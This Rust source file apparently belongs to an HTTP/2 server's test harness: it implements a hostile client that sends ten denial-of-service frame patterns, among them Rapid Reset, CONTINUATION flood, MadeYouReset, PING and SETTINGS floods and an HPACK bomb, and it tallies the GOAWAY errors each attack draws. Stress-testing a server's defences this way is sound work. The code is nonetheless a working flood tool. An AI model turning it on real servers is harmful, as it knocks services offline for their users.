//! What a hostile HTTP/2 client sends: each attack is a stream of frames, written as fast as they are taken, on one connection after
//! another.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::frames::{END_HEADERS, END_STREAM, PREFACE, frame, get, kind, request, section, setting};

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are reset as soon as they are sent (CVE-2023-44487).
    RapidReset,
    /// A field section that never ends (CVE-2024-27316 and kin).
    Continuation,
    /// PING, whose answers nobody reads.
    Ping,
    /// SETTINGS, whose acknowledgements nobody reads.
    Settings,
    /// DATA frames without bytes that end nothing.
    EmptyData,
    /// Windows that grow by one byte.
    WindowUpdate,
    /// PRIORITY of streams that do not exist.
    Priority,
    /// A hundred large answers on a connection that takes one byte of each.
    TinyWindows,
    /// A field in the table of 4 kB, named again and again by one byte each.
    HpackBomb,
    /// Malformed requests, each of which we reset (CVE-2025-8671).
    MadeYouReset,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Ping,
        Self::Settings,
        Self::EmptyData,
        Self::WindowUpdate,
        Self::Priority,
        Self::TinyWindows,
        Self::HpackBomb,
    ];

    /// Its name in reports.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION flood",
            Self::Ping => "PING flood",
            Self::Settings => "SETTINGS flood",
            Self::EmptyData => "empty DATA frames",
            Self::WindowUpdate => "WINDOW_UPDATE flood",
            Self::Priority => "PRIORITY flood",
            Self::TinyWindows => "tiny windows",
            Self::HpackBomb => "HPACK bomb",
            Self::MadeYouReset => "made you reset",
        }
    }

    /// What is said once, after the preface.
    fn begin(self) -> Vec<u8> {
        match self {
            Self::Continuation => frame(kind::HEADERS, END_STREAM, 1, &request("GET", "/")),
            Self::EmptyData | Self::WindowUpdate => frame(kind::HEADERS, END_HEADERS, 1, &request("POST", "/later")),
            Self::TinyWindows => (0..100).flat_map(|n| get(n * 2 + 1, "/bytes/52428800")).collect(),
            _ => Vec::new(),
        }
    }

    /// What is said in the round `n`, from 0 on.
    fn round(self, n: u32) -> Vec<u8> {
        let many = |part: Vec<u8>| part.repeat(100);
        let streams = |part: &dyn Fn(u32) -> Vec<u8>| (0..100).flat_map(|i| part((n * 100 + i) * 2 + 1)).collect();
        match self {
            Self::RapidReset => streams(&|id| [get(id, "/"), frame(kind::RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()),
            Self::MadeYouReset => {
                streams(&|id| [get(id, "/later"), frame(kind::WINDOW_UPDATE, 0, id, &[0; 4])].concat())
            }
            Self::Continuation => frame(kind::CONTINUATION, 0, 1, &section(&[("x", &"a".repeat(16_000))])),
            Self::Ping => many(frame(kind::PING, 0, 0, &[7; 8])),
            Self::Settings => many(frame(kind::SETTINGS, 0, 0, &setting(4, 65_535))),
            Self::EmptyData => many(frame(kind::DATA, 0, 1, b"")),
            Self::WindowUpdate => many(frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
            Self::Priority => streams(&|id| frame(kind::PRIORITY, 0, id, &[0, 0, 0, 0, 7])),
            Self::TinyWindows => Vec::new(),
            Self::HpackBomb => streams(&|id| {
                // The first of a connection puts a field of 4 kB into the table, at index 62.
                let put = [&b"\x40\x01x\x7f\xa1\x1e"[..], &[b'a'; 4000]].concat();
                let bomb = [request("GET", "/"), if id == 1 { put } else { Vec::new() }, vec![0xbe; 16_000 - 4100]];
                frame(kind::HEADERS, END_HEADERS | END_STREAM, id, &bomb.concat())
            }),
        }
    }

    /// Whether the attacker reads what it is told.
    const fn reads(self) -> bool {
        !matches!(self, Self::Ping | Self::Settings)
    }
}

/// What came of an attack.
#[derive(Clone, Copy, Debug, Default)]
pub struct Defence {
    /// Connections that the attacker opened, one after another.
    pub connections: u64,
    /// How many of them ended with GOAWAY and an error.
    pub goaways: u64,
    /// MiB that were taken from it.
    pub mebibytes: f64,
}

/// Attacks for a time.
pub async fn attack(address: SocketAddr, attack: Attack, time: Duration) -> Defence {
    let until = Instant::now() + time;
    let (bytes, goaways) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let mut connections = 0;
    while Instant::now() < until {
        let Ok(stream) = TcpStream::connect(address).await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        connections += 1;
        let one = connection(stream, attack, Arc::clone(&bytes), Arc::clone(&goaways));
        let _ = tokio::time::timeout_at(until, one).await;
    }
    #[expect(clippy::cast_precision_loss, reason = "mebibytes")]
    let mebibytes = bytes.load(Ordering::Relaxed) as f64 / f64::from(1 << 20);
    Defence { connections, goaways: goaways.load(Ordering::Relaxed), mebibytes }
}

/// One connection to its end.
async fn connection(stream: TcpStream, attack: Attack, bytes: Arc<AtomicU64>, goaways: Arc<AtomicU64>) {
    let (mut read, mut write) = stream.into_split();
    let settings = if attack == Attack::TinyWindows { setting(4, 1).to_vec() } else { Vec::new() };
    let begin = [PREFACE, &frame(kind::SETTINGS, 0, 0, &settings), &attack.begin()].concat();
    let reading = async {
        if !attack.reads() {
            std::future::pending::<()>().await;
        }
        let mut head = [0; 9];
        while read.read_exact(&mut head).await.is_ok() {
            let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
            if read.read_exact(&mut payload).await.is_err() {
                return;
            }
            if head[3] == kind::GOAWAY && payload.get(4..8).is_some_and(|code| code != [0; 4]) {
                goaways.fetch_add(1, Ordering::Relaxed);
                return;
            }
        }
    };
    let writing = async {
        if write.write_all(&begin).await.is_err() {
            return;
        }
        for n in 0.. {
            let round = attack.round(n);
            if round.is_empty() {
                // All has been said; now it waits.
                std::future::pending::<()>().await;
            }
            if write.write_all(&round).await.is_err() {
                return;
            }
            bytes.fetch_add(round.len() as u64, Ordering::Relaxed);
        }
    };
    // What it was told last is still to be read.
    let writing = async {
        writing.await;
        tokio::time::sleep(Duration::from_millis(if attack.reads() { 500 } else { 0 })).await;
    };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
}
